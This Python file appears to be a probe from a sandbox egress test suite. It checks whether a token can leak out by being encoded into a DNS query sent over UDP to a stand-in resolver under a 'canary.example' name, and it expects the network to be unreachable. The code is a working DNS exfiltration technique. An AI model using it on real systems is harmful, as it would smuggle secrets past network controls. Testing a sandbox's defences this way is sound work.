"""Send data out in a DNS query.

Attempts:  ask a server that stands in for a resolver for a name that holds the data.
Success:   the stand-in hears it.
Proof:     heard dns
Wait:      0.3
Runs:      python
Executor:  import rule
Host:      lets it through: DNS queries are answered even where web pages are blocked, so this way out is often
           overlooked
Socket:    no network (ENETUNREACH)
"""

import socket

labels = [target["token"].encode(), b"canary", b"example"]
name = b"".join(bytes([len(label)]) + label for label in labels)
question = b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(question, (target["resolver"], 53))
